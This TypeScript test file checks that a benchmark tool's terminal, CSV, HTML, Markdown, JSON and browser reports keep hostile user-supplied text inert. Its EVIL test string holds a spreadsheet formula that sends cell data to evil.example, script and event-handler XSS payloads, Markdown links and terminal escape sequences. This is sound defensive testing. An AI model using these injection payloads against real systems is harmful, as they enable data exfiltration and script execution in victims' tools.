/** What a user, a target or an exporter has written stays text in every output. */
import assert from 'node:assert/strict';
import { appendFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { pathToFileURL } from 'node:url';
import { RunFile } from '../../core/schemas/record.ts';
import { compareFolders } from '../../report/compare/compare-runs.ts';
import { terminalComparison } from '../../report/compare/outputs.ts';
import { readRun } from '../../report/fold/read-run.ts';
import { readIndex } from '../../report/fold/run-index.ts';
import { summarize } from '../../report/fold/summarize.ts';
import { SORTING } from '../../report/html/sorting.ts';
import { indexPage, terminalIndex } from '../../report/outputs/index-page.ts';
import { shortSummary } from '../../report/outputs/markdown.ts';
import { aligned, terminalTable } from '../../report/outputs/terminal.ts';
import { claimsTable } from '../../report/runtimes/outputs.ts';
import { plain } from '../../report/words/phrase.ts';
import { gridOf } from '../../report/words/table.ts';
import { renderedIn } from '../../scripts/golden/golden-runs.ts';
import { openBrowser, openPage } from '../support/browser.ts';
import { needs } from '../support/needs.ts';
import { runtimesResult } from '../support/runtimes-result.ts';
import { makePages } from './pages.ts';

const EVIL = [
  `=HYPERLINK("https://evil.example/?"&A1,"x")`,
  `</title></style><script>window.evil=1</script><img src=x onerror="window.evil=1">`,
  `"><svg/onload=window.evil=1> ' onfocus=window.evil=1 autofocus='`,
  `**bold** [link](https://evil.example) ![i](https://evil.example/i.png) \`code\` | cell | @team #12 <b>`,
  `\u0000\u001b]0;evil\u0007\u001b[31m\n# heading\n- item`,
].join(' ');

const base = mkdtempSync(join(tmpdir(), 'connrig-hostile-'));
after(() => rmSync(base, { recursive: true }));
/** By their folders: one that failed, and two of which the index draws a trend. */
const RUNS = { 'a "b" <c> #d?': 'lost-target', cycles: 'cycles', interrupted: 'interrupted' };
const pages = makePages(base, { runs: RUNS, change: spoil, result: runtimesResult(EVIL) });
const folder = join(base, 'runs', Object.keys(RUNS)[0]!);
const comparison = compareFolders([folder, join(base, 'runs/cycles'), join(base, 'runs/interrupted')]);
const textOf = (...path: string[]): string => readFileSync(join(base, ...path), 'utf8');

/** Puts the words wherever a record has words that are not ours. */
function spoil(folder: string): void {
  const path = join(folder, 'run.json');
  const run = RunFile.parse(JSON.parse(readFileSync(path, 'utf8')));
  const target = { ...run.target, name: EVIL, urls: [EVIL] };
  const environment = { ...run.environment, cpuModel: EVIL, kernel: EVIL };
  const instances = [{ name: EVIL, memoryBytes: 2 ** 30, reservedBytes: 0, pricePerHour: 1, replicas: 1 }];
  const sizing = { connections: 1000, spare: 0, headroomPercent: null, currency: EVIL, instances };
  const config = { ...run.config, command: EVIL, behaviour: { kind: EVIL }, sizing };
  const cost = { bytes: 1, low: 1, high: 1 };
  const baseline: RunFile['baseline'] = {
    folder: EVIL,
    maxGrowthPercent: 5,
    run: { ...run, name: EVIL },
    status: 'passed',
    problems: [EVIL],
    legs: [
      { name: 'tcp', protocol: 'tcp', launches: 1, rSquared: 1, tls: null, total: cost, user: cost, coarseBytes: 0 },
    ],
  };
  writeFileSync(path, JSON.stringify({ ...run, name: EVIL, target, environment, config, baseline }));
  const events = readFileSync(join(folder, 'events.jsonl'), 'utf8');
  const warning = { type: 'warning', elapsedMs: 1, text: EVIL };
  const error = { type: 'error', elapsedMs: 1, code: EVIL, message: EVIL, hint: EVIL };
  writeFileSync(join(folder, 'events.jsonl'), `${JSON.stringify(warning)}\n${JSON.stringify(error)}\n${events}`);
  appendFileSync(join(folder, 'samples.jsonl'), EVIL);
}

test('in a terminal it steers nothing', () => {
  const tables = [
    terminalTable(summarize(readRun(folder))),
    terminalComparison(comparison),
    terminalIndex(readIndex(join(base, 'runs'))),
    aligned(gridOf(claimsTable(runtimesResult(EVIL).claims), plain)).join('\n'),
  ];
  for (const text of tables) {
    assert.ok(text.includes('HYPERLINK'));
    // biome-ignore lint/suspicious/noControlCharactersInRegex: it is these that are meant.
    assert.doesNotMatch(text, /[\u0000-\u0009\u000b-\u001f]/);
  }
});

test('in a spreadsheet it is no formula, and stays in its cell', () => {
  const [head, ...lines] = readFileSync(join(folder, 'levels.csv'), 'utf8').split('\n');
  assert.deepEqual(head!.split(',').slice(-4, -2), ['run', 'leg']);
  assert.match(lines[0]!, /^tcp,1000,[^"]*,"'=HYPERLINK\(""https:/);
});

for (const { name, html } of pages) {
  test(`${name}: in HTML it is neither an element nor an attribute`, () => {
    // The index has one script, by its hash; what a pointer is told is a title within a picture.
    const other = html
      .replace(`<script>${SORTING}</script>`, '')
      .replaceAll(/<rect [^<>]*><title>[^<>]*<\/title><\/rect>/g, '');
    assert.equal(other.match(/<title>/g)?.length, 1);
    assert.doesNotMatch(other, /<script|<img|<b>|onerror="|<svg\//);
    assert.ok(html.includes('&#60;script&#62;window.evil=1&#60;/script&#62;'));
  });
}

test('a link leads to a folder, whatever that is called, and a trend is drawn of targets, whatever those are', () => {
  const { runs, unreadable } = readIndex(join(base, 'runs'));
  // Only runs of one plan that came to something are in a trend.
  const alike = runs.map((entry) => ({
    ...entry,
    run: { ...entry.run, plan: runs.at(-1)!.run.plan },
    summary: { ...entry.summary, status: 'measured' as const },
  }));
  assert.match(indexPage({ runs: alike, unreadable }, 'test'), /<figure id="trend-1">\n<h3>=HYPERLINK/);
  assert.match(textOf('runs/index.html'), /href="\.\/a%20%22b%22%20%3Cc%3E%20%23d%3F\/report\.html"/);
});

test('no chart beside a report says anything of it', () => {
  for (const [name, text] of renderedIn(folder)) {
    if (name.endsWith('.svg')) assert.doesNotMatch(text, /evil|HYPERLINK/, name);
  }
});

for (const [name, text] of [
  ['report.md', readFileSync(join(folder, 'report.md'), 'utf8')],
  ['the summary of a CI job', shortSummary(summarize(readRun(folder)))],
  ['compare.md', textOf('compare/compare.md')],
  ['runtimes.md', textOf('runtimes/runtimes.md')],
] as const) {
  test(`${name}: in Markdown it is code, or escaped`, () => {
    assert.match(text.split('\n')[0]!, /^##? /);
    assert.ok((text.match(/^# /gm)?.length ?? 0) <= 1);
    assert.ok(text.includes('HYPERLINK'));
    for (const line of text.split('\n')) {
      // A code span with a fence of any length shows what is in it, to the letter.
      const outside = line.replace(/(?<![\\`])(`+)(?!`)(.*?)(?<!`)\1(?!`)/g, '');
      assert.doesNotMatch(outside, /(?<!\\)<|(?<!\\)\*\*bold|(?<!\\)\[link|https:|@team|#12/, line);
    }
  });
}

test('in JSON it stays as it was', () => {
  const { runs } = JSON.parse(textOf('compare/compare.json')) as { runs: Array<{ name: string; target: string }> };
  for (const { name, target } of runs) assert.deepEqual([name, target], [EVIL, EVIL]);
  assert.equal((JSON.parse(readFileSync(join(folder, 'summary.json'), 'utf8')) as { name: string }).name, EVIL);
});

test('in a browser nothing of it runs, and nothing is asked for', { skip: needs('chromium') }, async (t) => {
  const browser = await openBrowser(t);
  for (const { name, path } of pages) {
    const { page, troubles } = await openPage(browser, String(pathToFileURL(path)));
    assert.equal(await page.evaluate('window.evil'), undefined, name);
    assert.deepEqual(troubles, [], name);
    assert.equal(await page.locator('img, b, iframe').count(), 0, name);
    assert.equal(await page.locator('script').count(), name.endsWith('index.html') ? 1 : 0, name);
    await page.close();
  }
});
